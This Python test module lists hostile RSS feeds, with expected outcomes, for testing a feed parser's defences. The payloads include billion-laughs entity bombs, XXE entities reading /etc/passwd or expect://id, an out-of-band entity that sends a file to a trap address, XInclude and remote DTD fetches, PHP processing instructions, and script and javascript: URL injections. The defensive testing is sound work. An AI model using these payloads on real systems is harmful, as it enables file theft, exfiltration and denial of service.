"""Feeds that would have their reader fetch, open or multiply something: entities, inclusions, instructions."""

from __future__ import annotations

from tests.hostile.documents.case import FILE, TRAP, Case, Cases, refused, whole

CUT, NO_FEED = "ends in the middle", "not a feed"
LINK = "<link>https://example.org/1</link><guid>one</guid>"


def rss(title: str, before: str = "", rest: str = "", root: str = "") -> bytes:
    """A feed of one entry. `before`: what stands before its root; `root`: attributes of that."""
    return (
        f'<?xml version="1.0"?>{before}<rss version="2.0" {root}><channel><title>News</title>'
        f"<item><title>{title}</title>{LINK}{rest}</item></channel></rss>"
    ).encode()


def typed(title: str, *declarations: str, rest: str = "", outside: str = "") -> Case:
    """With a document type that declares so: the entry is taken, and nothing is put in the entity's place."""
    return whole(rss(title, f"<!DOCTYPE rss {outside}[{''.join(declarations)}]>", rest), 1)


def doubled(levels: int, times: int = 10) -> list[str]:
    inner = [f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, levels)]
    return ['<!ENTITY l0 "lol">', *inner]


def entity(name: str, address: str, kind: str = "SYSTEM") -> str:
    return f'<!ENTITY {name} {kind} "{address}">'


HERE = "<description>&lt;a href=x&gt;y&lt;/a&gt;&lt;img src=x&gt;</description>"
INCLUDE = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
SHEET = f'<?xml-stylesheet type="text/xsl" href="{TRAP}x.xsl"?>'
CASES: Cases = {
    "a billion laughs": typed("&l9;", *doubled(10)),
    "a billion laughs in an address": typed("x", *doubled(10), rest="<link>&l9;</link>"),
    "a billion laughs in an attribute": typed("x", *doubled(10), rest='<enclosure url="&l9;"/>'),
    "one entity of a megabyte a thousand times": typed("&a;" * 1_000, f'<!ENTITY a "{"x" * 1_000_000}">'),
    "an entity of itself": typed("&a;", '<!ENTITY a "&a;">'),
    "entities of each other": typed("&a;", '<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    "a hundred thousand entities": typed("&e7;", *(f'<!ENTITY e{n} "x">' for n in range(100_000))),
    "an entity that is a file": typed("&x;", entity("x", FILE)),
    "an entity that is a file of the machine": typed("&x;", entity("x", "file:///etc/passwd")),
    "an entity that is a device": typed("&x;", entity("x", "file:///dev/zero")),
    "an entity that is at an address": typed("&x;", entity("x", TRAP)),
    "an entity that is public": typed("&x;", entity("x", TRAP, 'PUBLIC "-//x//y"')),
    "an entity that is a program's": typed("&x;", entity("x", "expect://id")),
    "an entity that is compressed": typed("&x;", entity("x", f"php://filter/convert.base64-encode/resource={FILE}")),
    "an entity of a parameter": typed("&x;", f'<!ENTITY % p SYSTEM "{TRAP}x.dtd">%p;'),
    "an entity that carries a file away": typed(
        "&x;", f'<!ENTITY % f SYSTEM "{FILE}"><!ENTITY % p "<!ENTITY x SYSTEM \'{TRAP}?%f;\'>">%p;'
    ),
    "a document type at an address": typed("x", outside=f'SYSTEM "{TRAP}rss.dtd"'),
    "a public document type at an address": typed("x", outside=f'PUBLIC "-//Netscape//DTD RSS" "{TRAP}rss.dtd"'),
    "a document type with a bracket in a value": refused(
        rss("&x;", f'<!DOCTYPE rss [<!ENTITY a "]>">{entity("x", FILE)}]>'), NO_FEED
    ),
    "a document type with a bracket in a comment": refused(
        rss("&x;", f"<!DOCTYPE rss [<!-- ]> -->{entity('x', FILE)}]>"), NO_FEED
    ),
    "a document type behind the root": whole(rss(f"<!DOCTYPE rss [{entity('x', FILE)}]>&x;"), 1),
    "a document type twice": whole(rss("&x;", f"<!DOCTYPE rss [{entity('x', FILE)}]>" * 2), 1),
    "a document type in small letters": whole(rss("&x;", f"<!doctype rss [{entity('x', FILE)}]>"), 1),
    "a document type in UTF-16": whole(
        rss("&x;", f"<!DOCTYPE rss [{entity('x', 'file:///etc/passwd')}]>").decode().encode("utf-16"), 1
    ),
    "attributes that a document type adds": typed("x", f'<!ATTLIST item about CDATA "{TRAP}">'),
    "a notation": typed("&x;", f'<!NOTATION n SYSTEM "{TRAP}"><!ENTITY x SYSTEM "{TRAP}" NDATA n>'),
    "an inclusion of a file": whole(rss(f'<xi:include href="{FILE}" parse="text"/>', root=INCLUDE), 1),
    "an inclusion of an address": whole(rss(f'x<xi:include href="{TRAP}"/>', root=INCLUDE), 1),
    "an inclusion that falls back": whole(
        rss(f'x<xi:include href="{TRAP}"><xi:fallback>y</xi:fallback></xi:include>', root=INCLUDE), 1
    ),
    "a schema at an address": whole(
        rss("x", root=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {TRAP}"'), 1
    ),
    "a style sheet at an address": whole(rss("x", SHEET), 1),
    "a style sheet within": whole(rss(f"x{SHEET}"), 1),
    "instructions of programs": whole(rss("x<?php system('id'); ?><?import os?>", "<?php system('id'); ?>"), 1),
    "a script in a title": whole(rss("&lt;script&gt;alert(1)&lt;/script&gt;x"), 1),
    "a script in a title, bare": whole(rss("<script>alert(1)</script>x"), 1),
    "a script in character data": whole(rss("<![CDATA[<script>alert(1)</script>x]]>"), 1),
    "character data in character data": whole(rss("<![CDATA[<![CDATA[x]]]]><![CDATA[>]]>"), 1),
    "character data that never ends": refused(rss("<![CDATA[x").replace(b"</rss>", b""), CUT),
    "character data that ends the item": whole(rss("<![CDATA[x</title></item><item><title>y]]>"), 1),
    "a hundred thousand pieces of character data": whole(rss("<![CDATA[x]]>" * 100_000), 1),
    "an address that is a script": whole(rss("x", rest="<link>javascript:alert(1)</link>"), 1),
    "an address that is a file": whole(rss("x", rest=f"<link>{FILE}</link><enclosure url='{FILE}'/>"), 1),
    "an address that is data": whole(rss("x", rest="<link>data:text/html,x</link>"), 1),
    "a base that is a script": whole(rss("x", root='xml:base="javascript:alert(1)//"', rest="<link>y</link>"), 1),
    "a base that is a file": whole(rss("x", root=f'xml:base="{FILE}"', rest=HERE), 1),
    "a base at an address": whole(rss("x", root=f'xml:base="{TRAP}"', rest=HERE), 1),
}  # fmt: skip
